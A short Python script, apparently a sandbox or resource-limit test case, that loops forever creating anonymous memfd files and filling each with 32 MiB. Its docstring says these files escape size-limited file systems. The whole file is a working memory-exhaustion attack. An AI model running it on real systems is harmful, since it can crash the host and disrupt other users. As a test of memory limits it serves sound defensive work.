"""Files without a name and without a file system whose size anybody limited."""

import os

from attacker import once

once()
block = bytes(1 << 20)
while True:
    descriptor = os.memfd_create("hoard")
    for _ in range(32):
        os.write(descriptor, block)
